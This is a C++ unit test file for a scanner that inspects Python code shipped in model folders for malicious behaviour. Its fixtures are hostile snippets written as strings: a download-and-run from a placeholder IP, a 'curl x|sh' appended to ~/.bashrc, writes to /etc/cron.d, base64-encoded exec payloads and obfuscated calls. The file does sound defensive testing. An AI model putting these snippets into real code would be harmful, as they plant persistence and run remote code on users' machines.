// Issue #12 class 6: the Python source an auto_map points to is read statically and judged
// (scan/internal/python_source.h): what it imports and calls, decoded payloads, URLs, writes
// outside the folder. A clear payload is malicious; every .py file needs review at least.
#include "scan/internal/python_source.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <string>

#include "scan/scan.h"
#include "test_util.h"

namespace airlock::scan {
namespace {

using internal::AnalyzePythonSource;
using internal::PySignalKind;

FileReport ScanPy(const std::string& src, const std::string& name = "modeling_x.py") {
  return ScanBuffer(std::as_bytes(std::span<const char>(src.data(), src.size())), name, {});
}

bool HasRule(const FileReport& r, const std::string& rule) {
  for (const auto& f : r.findings) {
    if (f.rule_id == rule) return true;
  }
  return false;
}

std::string Rules(const FileReport& r) {
  std::string s;
  for (const auto& f : r.findings) s += "\n  " + f.rule_id + ": " + f.message;
  return s;
}

bool HasSignal(std::string_view src, PySignalKind kind) {
  for (const auto& s : AnalyzePythonSource(src).signals) {
    if (s.kind == kind) return true;
  }
  return false;
}

TEST(PythonSource, ProcessCallsThroughImportsAndAliases) {
  EXPECT_TRUE(HasSignal("import subprocess as sp\nsp.run(['id'])\n", PySignalKind::kProcess));
  EXPECT_TRUE(HasSignal("from os import system as s\ns('id')\n", PySignalKind::kProcess));
  EXPECT_TRUE(HasSignal("from os import *\nsystem('id')\n", PySignalKind::kProcess));
  // Referring to the function is enough: it is called later under another name.
  EXPECT_TRUE(HasSignal("import os\nrun = os.popen\n", PySignalKind::kProcess));
  // getattr with a literal name is resolved.
  EXPECT_TRUE(HasSignal("import os\ngetattr(os, 'system')('id')\n", PySignalKind::kProcess));
  EXPECT_TRUE(
      HasSignal("import os\ngetattr(os, 'sys' + 'tem')('id')\n", PySignalKind::kReflection));
  // Attribute access on an expression: judged by the attribute's name.
  EXPECT_TRUE(HasSignal("import os\n(os).system('id')\n", PySignalKind::kProcess));
  EXPECT_TRUE(HasSignal("import os as o\nm = [o]\nm[0].popen('id')\n", PySignalKind::kProcess));
  EXPECT_FALSE(HasSignal("import torch\nself.system = 1\n", PySignalKind::kProcess));
  auto r = ScanPy("import subprocess\nsubprocess.Popen(['sh', '-c', 'id'])\n");
  EXPECT_EQ(r.verdict, Verdict::kMalicious) << Rules(r);
  EXPECT_TRUE(HasRule(r, "python.process")) << Rules(r);
}

TEST(PythonSource, DecodedPayloadIsCritical) {
  auto r =
      ScanPy("import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n");
  EXPECT_EQ(r.verdict, Verdict::kMalicious) << Rules(r);
  EXPECT_TRUE(HasRule(r, "python.decoded-payload")) << Rules(r);
  // Through a variable and zlib/marshal.
  auto split = ScanPy(
      "import zlib, marshal\ncode = marshal.loads(zlib.decompress(blob))\n"
      "eval(code)\n");
  EXPECT_TRUE(HasRule(split, "python.decoded-payload")) << Rules(split);
}

TEST(PythonSource, DownloadAndExecuteIsAPayload) {
  auto r = ScanPy(
      "import os, urllib.request\n"
      "urllib.request.urlretrieve('http://203.0.113.9/x.sh', 'x.sh')\n"
      "os.system('sh x.sh')\n");
  EXPECT_EQ(r.verdict, Verdict::kMalicious) << Rules(r);
  EXPECT_TRUE(HasRule(r, "python.payload")) << Rules(r);
  EXPECT_TRUE(HasRule(r, "python.url")) << Rules(r);
}

TEST(PythonSource, WritesOutsideTheFolder) {
  auto home = ScanPy("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('curl x|sh')\n");
  EXPECT_TRUE(HasRule(home, "python.write-outside")) << Rules(home);
  EXPECT_EQ(home.verdict, Verdict::kMalicious);
  auto etc = ScanPy("with open('/etc/cron.d/job', mode='w') as f:\n    f.write('x')\n");
  EXPECT_TRUE(HasRule(etc, "python.write-outside")) << Rules(etc);
  auto rm = ScanPy("import shutil\nshutil.rmtree('../../other')\n");
  EXPECT_TRUE(HasRule(rm, "python.write-outside")) << Rules(rm);
  // Reading is not writing; relative paths stay in the folder.
  auto read = ScanPy("data = open('/etc/hostname').read()\nopen('cache.bin', 'wb')\n");
  EXPECT_FALSE(HasRule(read, "python.write-outside")) << Rules(read);
}

TEST(PythonSource, CommentsAndStringsAreNotCode) {
  auto r = ScanPy("# os.system('id')\ndoc = \"\"\"subprocess.run(['id'])\"\"\"\nx = 'os.popen'\n");
  EXPECT_FALSE(HasRule(r, "python.process")) << Rules(r);
  EXPECT_EQ(r.verdict, Verdict::kInconclusive) << Rules(r);  // every .py needs review
}

TEST(PythonSource, OrdinaryModelingCodeIsOnlyReviewed) {
  auto r = ScanPy(
      "import math\nimport os\nfrom typing import Optional\nimport torch\n"
      "from torch import nn\nfrom ...utils import logging\n"
      "logger = logging.get_logger(__name__)\n"
      "class XModel(nn.Module):\n"
      "    def __init__(self, config):\n"
      "        super().__init__()\n"
      "        self.path = os.path.join(config.name_or_path, 'x.bin')\n"
      "        self.proj = nn.Linear(4, 4)\n"
      "    def forward(self, x: Optional[torch.Tensor] = None):\n"
      "        return self.proj(x) * math.sqrt(2)  # see https://arxiv.org/abs/1706.03762\n");
  EXPECT_EQ(r.verdict, Verdict::kInconclusive) << Rules(r);
  for (const auto& f : r.findings) EXPECT_LT(f.severity, Severity::kHigh) << Rules(r);
}

TEST(PythonSource, NonAsciiIdentifiersAndHostileText) {
  // NFKC folds the fullwidth letters to `exec`.
  EXPECT_TRUE(HasSignal("\xef\xbd\x85\xef\xbd\x98\xef\xbd\x85\xef\xbd\x83('x')\n",
                        PySignalKind::kNonAsciiName));
  // Unterminated literals, stray bytes, deep brackets: analysed without crashing.
  std::string hostile = "'''never closed\n" + std::string(100000, '(') + "\x00\xff\"\\";
  auto a = AnalyzePythonSource(hostile);
  EXPECT_FALSE(a.truncated);
  auto capped = AnalyzePythonSource(std::string(1000, '+'), {.max_tokens = 10});
  EXPECT_TRUE(capped.truncated);
  EXPECT_NE(ScanPy(std::string(3'000'000, ';')).verdict, Verdict::kClean);
  // Nested open( calls each look ahead for their arguments: bounded in total, then truncated.
  std::string nested;
  for (int i = 0; i < 200'000; ++i) nested += "open(";
  EXPECT_TRUE(AnalyzePythonSource(nested).truncated);
}

TEST(PythonSource, AutoMapCodeInAModelFolderIsRead) {
  testing::TempDir tmp("automap");
  std::filesystem::path d = tmp.path() / "model";
  std::filesystem::create_directories(d);
  std::ofstream(d / "config.json") << R"({"auto_map": {"AutoModel": "modeling_x.XModel"}})";
  std::ofstream(d / "modeling_x.py")
      << "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nclass XModel: pass\n";
  auto report = ScanPaths({d.string()}, ScanOptions{});
  ASSERT_TRUE(report.ok()) << report.error().message();
  EXPECT_EQ(report->verdict, Verdict::kMalicious);
  bool found = false;
  for (const auto& file : report->files) {
    for (const auto& f : file.findings) found |= f.rule_id == "python.decoded-payload";
  }
  EXPECT_TRUE(found);
}

}  // namespace
}  // namespace airlock::scan
